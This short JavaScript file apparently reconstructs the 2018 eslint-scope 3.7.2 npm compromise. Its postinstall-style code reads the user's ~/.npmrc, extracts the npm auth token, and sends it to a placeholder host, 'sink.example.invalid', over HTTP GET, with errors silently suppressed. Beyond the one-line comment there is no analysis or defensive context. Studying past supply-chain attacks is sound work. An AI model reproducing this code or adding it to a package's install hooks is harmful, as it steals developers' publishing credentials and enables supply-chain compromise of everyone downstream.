// eslint-scope 3.7.2 shape: a postinstall added that reads the npm token and sends it
var fs = require('fs');
var path = require('path');
var os = require('os');
var http = require('http');
try {
  var npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  var token = npmrc.split('_authToken=')[1];
  http.get({ hostname: 'sink.example.invalid', path: '/?t=' + encodeURIComponent(token) });
} catch (e) {}
